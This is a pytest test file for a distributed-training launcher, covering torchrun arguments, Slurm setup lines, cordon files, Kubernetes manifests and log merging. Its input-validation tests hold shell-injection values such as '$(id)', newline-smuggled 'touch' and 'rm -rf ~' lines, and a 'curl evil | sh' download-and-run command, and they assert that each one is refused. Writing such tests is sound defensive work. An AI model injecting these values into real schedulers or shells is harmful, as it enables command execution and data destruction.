"""smalti.core.launch without starting training: torchrun arguments, Slurm setup lines, cordon files,
the Kubernetes manifest against the operator's schema, merged logs and the preflight hand-off."""

import io
import json
import os
import re
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
import yaml

from smalti.core.errors import ConfigError
from smalti.core.launch import LaunchError
from smalti.core.launch.cli import main as launch_main
from smalti.core.launch.cordon import CordonedHost, parse_cordon, read_cordon_file
from smalti.core.launch.k8s import PyTorchJobOptions, build_pytorchjob
from smalti.core.launch.logs import RankConsoleFilter, find_run_dir, show_logs
from smalti.core.launch.node import node_torchrun_args, should_start_agent, worker_overrides
from smalti.core.launch.submitit import prepare_slurm_params, slurm_setup_lines
from smalti.core.launch.torchrun import TorchrunSettings, derived_port

FIXTURES = Path(__file__).parent / "launch_fixtures"


def torchrun_parse(argv):
    """torch's own torchrun parser: what the agent would do with these arguments."""
    from torch.distributed.run import parse_args

    return parse_args(list(argv))


# --- torchrun arguments -------------------------------------------------------------------------------


def test_torchrun_args_parse_as_torchrun():
    settings = TorchrunSettings(max_restarts=2, min_nodes=2)
    args = settings.args(nnodes=4, nproc_per_node=8, endpoint="gpu3:29400", rdzv_id="job7")
    parsed = torchrun_parse([*args, "-m", "smalti.core.cli.train", "model=mlp"])
    assert (parsed.nnodes, parsed.nproc_per_node, parsed.rdzv_backend) == ("2:4", "8", "c10d")
    assert (parsed.rdzv_endpoint, parsed.rdzv_id, parsed.max_restarts) == ("gpu3:29400", "job7", 2)
    assert parsed.module and parsed.training_script == "smalti.core.cli.train"
    assert parsed.training_script_args == ["model=mlp"]


def test_torchrun_settings_reject_unknown_keys_and_bad_values():
    with pytest.raises(ConfigError, match="max_restart.*known keys"):
        TorchrunSettings.from_config({"max_restart": 1})
    with pytest.raises(ConfigError, match="nproc_per_node"):
        TorchrunSettings.from_config({"nproc_per_node": 0})
    assert TorchrunSettings.from_config(None).procs_per_node(gpus_per_node=8) == 8
    assert TorchrunSettings.from_config({"nproc_per_node": 2}).procs_per_node(gpus_per_node=8) == 2
    assert TorchrunSettings().procs_per_node(gpus_per_node=None) == 1


def test_derived_port_matches_the_slurm_shell_formula():
    assert derived_port("1234") == 20000 + 1234 % 20000
    assert derived_port("987654") == 20000 + 987654 % 20000
    assert 20000 <= derived_port("12345_7") < 40000  # submitit's array form: hashed, still in range


# --- Slurm -------------------------------------------------------------------------------------------


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
def test_slurm_setup_lines_give_torchrun_the_first_host_and_node_count(tmp_path):
    """Run the sbatch setup lines as Slurm would (fake ``scontrol``), then parse the result with torchrun's parser."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    scontrol = bin_dir / "scontrol"
    scontrol.write_text("#!/bin/bash\n# scontrol show hostnames gpu[3-6]\nprintf 'gpu3\\ngpu4\\ngpu5\\ngpu6\\n'\n")
    scontrol.chmod(0o755)
    lines = slurm_setup_lines(TorchrunSettings(max_restarts=3), gpus_per_node=8)
    script = "\n".join(lines) + '\nprintf "%s" "$SMALTI_TORCHRUN_ARGS"\n'
    env = {**os.environ, "PATH": f"{bin_dir}:{os.environ['PATH']}", "SLURM_JOB_NODELIST": "gpu[3-6]",
           "SLURM_JOB_NUM_NODES": "4", "SLURM_JOB_ID": "41234"}
    out = subprocess.run(["bash", "-c", script], env=env, capture_output=True, text=True, timeout=30)
    assert out.returncode == 0, out.stderr
    args = out.stdout.split("\n")[-1].split()
    parsed = torchrun_parse([*args, "-m", "smalti.core.cli.train"])
    assert parsed.nnodes == "4" and parsed.nproc_per_node == "8" and parsed.max_restarts == 3
    assert parsed.rdzv_backend == "c10d" and parsed.rdzv_id == "41234"
    assert parsed.rdzv_endpoint == f"gpu3:{derived_port('41234')}"


@pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")
def test_every_torchrun_setting_stays_inside_its_setup_line(tmp_path):
    """The settings land inside ``export SMALTI_TORCHRUN_ARGS="..."``: no value may run a command there."""
    marker = tmp_path / "pwned"
    for bad in ({"rdzv_backend": f"c10d$(touch {marker})"}, {"rdzv_backend": f'c10d"; touch {marker}; "'},
                {"monitor_interval": f"1`touch {marker}`"}, {"max_restarts": f"1$(touch {marker})"}):
        for build in (TorchrunSettings.from_config, lambda values: TorchrunSettings(**values)):
            with pytest.raises(ConfigError, match=r"hydra\.launcher\.torchrun.*(rdzv.backend|monitor.interval|max.re)"):
                lines = slurm_setup_lines(build(bad), None)
                subprocess.run(["bash", "-c", lines[2]], timeout=30)  # what the job's first node would run
    assert not marker.exists()
    assert "--rdzv-backend=etcd-v2" in slurm_setup_lines(TorchrunSettings(rdzv_backend="etcd-v2"), None)[2]


def test_slurm_params_keep_one_task_per_node_and_exclude_cordoned_hosts(tmp_path):
    cordon = tmp_path / "cordon.json"
    cordon.write_text(json.dumps([{"host": "gpu7", "reason": "XID 79"}, "gpu9"]))
    params = prepare_slurm_params({"nodes": 4, "tasks_per_node": 1, "exclude": "gpu1", "setup": ["module load x"]},
                                  TorchrunSettings(), str(cordon))
    assert params["exclude"] == "gpu1,gpu7,gpu9"
    assert params["setup"][-1] == "module load x" and "SMALTI_TORCHRUN_ARGS" in params["setup"][2]
    with pytest.raises(ConfigError, match="tasks_per_node"):
        prepare_slurm_params({"tasks_per_node": 8}, TorchrunSettings(), None)
    with pytest.raises(ConfigError, match="extra_args"):
        slurm_setup_lines(TorchrunSettings(extra_args=["--log-dir=/a b"]), None)


def test_node_agent_arguments_from_the_job_environment(monkeypatch):
    slurm = {"SUBMITIT_EXECUTOR": "slurm", "SLURM_JOB_ID": "555", "SLURM_JOB_NUM_NODES": "3",
             "SLURM_JOB_NODELIST": "node[07-09]", "SLURM_NODEID": "2"}
    for key, value in slurm.items():
        monkeypatch.setenv(key, value)
    monkeypatch.delenv("SMALTI_TORCHRUN_ARGS", raising=False)
    parsed = torchrun_parse(node_torchrun_args({"gpus_per_node": 4, "torchrun": {"rdzv_port": 29555}}) + ["-m", "x"])
    assert (parsed.nnodes, parsed.nproc_per_node) == ("3", "4")
    assert (parsed.rdzv_endpoint, parsed.rdzv_id) == ("node07:29555", "555")
    # The job script's exported arguments win over anything computed here.
    monkeypatch.setenv("SMALTI_TORCHRUN_ARGS", "--nnodes=3 --nproc-per-node=2 --rdzv-endpoint=h:1")
    assert node_torchrun_args({"gpus_per_node": 4}) == ["--nnodes=3", "--nproc-per-node=2", "--rdzv-endpoint=h:1"]


def test_only_a_submitit_task_outside_torchrun_starts_the_agent():
    assert should_start_agent({"SUBMITIT_EXECUTOR": "slurm"})
    assert not should_start_agent({"SUBMITIT_EXECUTOR": "slurm", "TORCHELASTIC_RUN_ID": "1", "LOCAL_RANK": "0"})
    assert not should_start_agent({})
    assert worker_overrides(["optimizer.lr=0.1"], "/out/0") == ["optimizer.lr=0.1", "hydra.run.dir='/out/0'"]


# --- cordon files ------------------------------------------------------------------------------------


def test_cordon_file_shapes(tmp_path):
    assert [c.host for c in parse_cordon(["a", "b", "a"])] == ["a", "b"]
    assert parse_cordon({"a": "ECC"})[0].reason == "ECC"
    nested = parse_cordon({"cordoned": [{"hostname": "x", "reason": "slow link"}, {"node": "y"}]})
    assert [(c.host, c.reason) for c in nested] == [("x", "slow link"), ("y", "")]
    path = tmp_path / "cordon.yaml"
    path.write_text("- host: gpu2\n  reason: remapped rows\n")
    assert read_cordon_file(path)[0].host == "gpu2"
    assert read_cordon_file(tmp_path / "missing.json") == []
    with pytest.raises(LaunchError, match="entry 0"):
        parse_cordon([{"reason": "no host"}])


def test_a_cordon_entry_that_is_not_a_host_name_refuses_the_file(tmp_path):
    """A shared cordon list is written by other jobs: an entry with a newline would become a line of the sbatch."""
    marker = tmp_path / "pwned"
    hostile = tmp_path / "cordon.json"
    hostile.write_text(json.dumps(["gpu-1", {"host": f"gpu-9\ntouch {marker} #", "reason": "bad"}]))
    with pytest.raises(LaunchError, match=r"cordon\.json: entry 1: 'gpu-9\\ntouch"):
        read_cordon_file(hostile)
    with pytest.raises(LaunchError, match="entry 1"):
        prepare_slurm_params({"nodes": 2}, TorchrunSettings(), str(hostile))
    for bad in ("gpu 9", "gpu9;reboot", "$(id)", "gpu`id`", "-x", "", "a" * 254, "gpu9\rid"):
        with pytest.raises(LaunchError, match="not a host name"):
            parse_cordon([bad], "list.json")
    # Valid names pass, and a reason is free text folded onto one line.
    ok = parse_cordon([{"host": "gpu-node_3.rack-2.example.com", "reason": "XID 79\nthen ECC"}])
    assert (ok[0].host, ok[0].reason) == ("gpu-node_3.rack-2.example.com", "XID 79 then ECC")


def test_every_slurm_value_stays_on_its_sbatch_line(tmp_path):
    for key, value in (("partition", "train\nrm -rf ~"), ("name", "job;id"), ("exclude", "gpu1 gpu2"),
                       ("comment", "ok\n$(id)"), ("setup", ["module load x\ncurl evil | sh"]),
                       ("additional_parameters", {"mail-user": "me\r\nid"}), ("account", "acct$(id)")):
        with pytest.raises(LaunchError, match=rf"hydra\.launcher\.{key}"):
            prepare_slurm_params({"nodes": 1, key: value}, TorchrunSettings(), None)
    params = prepare_slurm_params({"nodes": 1, "partition": "gpu-a100", "exclude": "gpu[01-04],gpu7",
                                   "comment": "llm 7b sweep", "constraint": "a100&ib",
                                   "additional_parameters": {"mail-type": "END"}}, TorchrunSettings(), None)
    assert params["exclude"] == "gpu[01-04],gpu7"


def test_k8s_manifest_values_are_checked():
    base = {"name": "llm", "nodes": 1}
    for field, value, flag in (("image", "img\n- evil", "--image"), ("env", {"A B": "1"}, "--env"),
                               ("env", {"TOKEN": "x\ny"}, "--env"), ("namespace", "Prod;x", "--namespace"),
                               ("overrides", ["a=1\nb"], "overrides"),
                               ("cordoned", [CordonedHost("gpu\nx")], "cordoned host 0")):
        with pytest.raises(LaunchError, match=re.escape(flag)):
            build_pytorchjob(PyTorchJobOptions(**base, **{field: value}))


# --- Kubernetes ----------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def pytorchjob_validator():
    import jsonschema
    schema = yaml.safe_load((FIXTURES / "pytorchjob-v1-schema.yaml").read_text())
    return jsonschema.Draft202012Validator(schema)


def test_k8s_cli_writes_a_valid_pytorchjob(tmp_path, pytorchjob_validator):
    cordon = tmp_path / "cordon.json"
    cordon.write_text(json.dumps([{"host": "gpu-node-3", "reason": "ECC errors"}, {"host": "gpu-node-9"}]))
    out = tmp_path / "job.yaml"
    code = launch_main(["k8s", "--nodes", "4", "--gpus-per-node", "8", "--image", "reg.example/smalti:1.0",
                        "--name", "llm-7b", "--cordon", str(cordon), "--max-restarts", "2", "--pvc", "shared-ckpt",
                        "-o", str(out), "--", "model=mlp", "parallelism=fsdp", "checkpoint.autoresume=true"])
    assert code == 0
    manifest = yaml.safe_load(out.read_text())
    pytorchjob_validator.validate(manifest)
    assert (manifest["apiVersion"], manifest["kind"]) == ("kubeflow.org/v1", "PyTorchJob")
    spec = manifest["spec"]
    worker = spec["pytorchReplicaSpecs"]["Worker"]
    assert worker["replicas"] == 4 and worker["restartPolicy"] == "ExitCode"
    assert spec["elasticPolicy"] == {"rdzvBackend": "c10d", "rdzvPort": 29400, "minReplicas": 4, "maxReplicas": 4,
                                     "maxRestarts": 2}
    pod = worker["template"]["spec"]
    (container,) = pod["containers"]
    assert container["name"] == "pytorch" and container["resources"]["limits"]["nvidia.com/gpu"] == 8
    command = container["command"]
    assert command[:3] == ["python", "-m", "torch.distributed.run"]
    parsed = torchrun_parse(command[3:])
    assert (parsed.nnodes, parsed.nproc_per_node, parsed.max_restarts) == ("4", "8", 2)
    assert (parsed.rdzv_endpoint, parsed.rdzv_id) == ("llm-7b-worker-0:29400", "llm-7b")
    assert parsed.training_script == "smalti.core.cli.train"
    assert parsed.training_script_args == ["model=mlp", "parallelism=fsdp", "checkpoint.autoresume=true"]
    (term,) = pod["affinity"]["nodeAffinity"]["requiredDuringSchedulingIgnoredDuringExecution"]["nodeSelectorTerms"]
    assert term["matchExpressions"] == [
        {"key": "kubernetes.io/hostname", "operator": "NotIn", "values": ["gpu-node-3", "gpu-node-9"]}]
    assert "ECC errors" in manifest["metadata"]["annotations"]["smalti.dev/cordoned"]
    assert pod["initContainers"][0]["command"] == ["smalti-launch", "preflight"]
    assert container["workingDir"] == "/workspace"


def test_k8s_schema_catches_mistakes(pytorchjob_validator):
    """The schema bites: a wrong type or a misspelt field fails validation, so the valid case above means something."""
    import jsonschema

    good = build_pytorchjob(PyTorchJobOptions(name="run", nodes=2))
    pytorchjob_validator.validate(good)
    bad_type = json.loads(json.dumps(good))
    bad_type["spec"]["pytorchReplicaSpecs"]["Worker"]["replicas"] = "two"
    misspelt = json.loads(json.dumps(good))
    misspelt["spec"]["elasticPolicy"]["maxRestart"] = 3
    no_name = json.loads(json.dumps(good))
    del no_name["spec"]["pytorchReplicaSpecs"]["Worker"]["template"]["spec"]["containers"][0]["name"]
    for manifest in (bad_type, misspelt, no_name):
        with pytest.raises(jsonschema.ValidationError):
            pytorchjob_validator.validate(manifest)


def test_k8s_elastic_range_and_bad_options(capsys):
    job = build_pytorchjob(PyTorchJobOptions(name="elastic", nodes=8, min_nodes=6, gpus_per_node=0, preflight=False))
    command = job["spec"]["pytorchReplicaSpecs"]["Worker"]["template"]["spec"]["containers"][0]["command"]
    assert "--nnodes=6:8" in command and "--nproc-per-node=1" in command
    assert job["spec"]["elasticPolicy"]["minReplicas"] == 6
    assert "initContainers" not in job["spec"]["pytorchReplicaSpecs"]["Worker"]["template"]["spec"]
    assert launch_main(["k8s", "--nodes", "2", "--name", "Bad_Name"]) == 2
    assert "Bad_Name" in capsys.readouterr().err
    assert launch_main(["k8s", "--nodes", "2", "--min-nodes", "3"]) == 2


# --- logs ----------------------------------------------------------------------------------------------


def write_rank_logs(run_dir):
    run_dir.mkdir(parents=True)
    (run_dir / "rank0.log").write_text(
        "[rank0][2026-01-01 10:00:00,100][a][INFO] - start 0\n"
        "[rank0][2026-01-01 10:00:02,000][a][ERROR] - boom\nTraceback (most recent call last):\n  line\n")
    (run_dir / "rank1.log").write_text(
        "[rank1][2026-01-01 10:00:00,050][a][INFO] - start 1\n[rank1][2026-01-01 10:00:01,000][a][INFO] - step\n")


def test_logs_merges_ranks_in_time_order(tmp_path, monkeypatch, capsys):
    write_rank_logs(tmp_path / "outputs" / "run1")
    monkeypatch.chdir(tmp_path)
    assert launch_main(["logs", "run1", "--no-follow"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert [line.split(" - ")[-1] for line in lines[:4]] == ["start 1", "start 0", "step", "boom"]
    # Continuation lines (a traceback) stay with their record and carry the rank.
    assert lines[4:] == ["[rank0] Traceback (most recent call last):", "[rank0]   line"]
    assert launch_main(["logs", "nope", "--no-follow"]) == 2
    assert "run1" in capsys.readouterr().err  # the error lists the runs that exist


def test_logs_follow_picks_up_new_lines_and_files(tmp_path):
    run_dir = tmp_path / "run"
    write_rank_logs(run_dir)
    out = io.StringIO()
    polls = iter(range(3))

    def stop():
        n = next(polls)
        if n == 0:  # after the first poll a rank appends a line and a new rank file appears
            with open(run_dir / "rank1.log", "a") as f:
                f.write("[rank1][2026-01-01 10:00:03,000][a][INFO] - later\n")
            (run_dir / "rank2.log").write_text("[rank2][2026-01-01 10:00:02,500][a][INFO] - joined\n")
        return n >= 1

    show_logs(find_run_dir(str(run_dir)), out=out, follow=True, interval_s=0.01, stop=stop)
    printed = out.getvalue().splitlines()
    assert printed[-2:] == ["[rank2][2026-01-01 10:00:02,500][a][INFO] - joined",
                            "[rank1][2026-01-01 10:00:03,000][a][INFO] - later"]
    assert sum("start 0" in line for line in printed) == 1  # nothing printed twice


def test_rank_console_filter(monkeypatch):
    import logging

    info = logging.LogRecord("x", logging.INFO, __file__, 1, "m", None, None)
    warn = logging.LogRecord("x", logging.WARNING, __file__, 1, "m", None, None)
    monkeypatch.setenv("RANK", "3")
    assert not RankConsoleFilter().filter(info) and RankConsoleFilter().filter(warn)
    monkeypatch.setenv("RANK", "0")
    assert RankConsoleFilter().filter(info)


# --- preflight ------------------------------------------------------------------------------------------


def fake_health_package(root, exit_code):
    """A stand-in smalti-health distribution with a ``smalti-health`` console script."""
    (root / "fake_health_cli.py").write_text(textwrap.dedent(f"""
        import sys
        def main():
            print("fake preflight args:", sys.argv[1:])
            return {exit_code}
    """))
    info = root / "smalti_health-0.0.1.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: smalti-health\nVersion: 0.0.1\n")
    (info / "entry_points.txt").write_text("[console_scripts]\nsmalti-health = fake_health_cli:main\n")


def run_launch(args, env=None):
    return subprocess.run([sys.executable, "-m", "smalti.core.launch.cli", *args], capture_output=True, text=True,
                          timeout=120, env={**os.environ, **(env or {})})


def test_preflight_passes_smalti_health_exit_code_through(tmp_path):
    fake_health_package(tmp_path, exit_code=42)
    out = run_launch(["preflight", "--", "--cordon", "c.json"], env={"PYTHONPATH": str(tmp_path)})
    assert out.returncode == 42, out.stderr
    assert "fake preflight args: ['preflight', '--cordon', 'c.json']" in out.stdout


def test_preflight_without_smalti_health_says_so():
    from smalti.core.launch.preflight import health_entry_point

    if health_entry_point() is not None:
        pytest.skip("smalti-health is installed here")
    out = run_launch(["preflight"])
    assert out.returncode == 0 and "smalti-health is not installed" in out.stderr
    assert run_launch(["preflight", "--require"]).returncode == 3
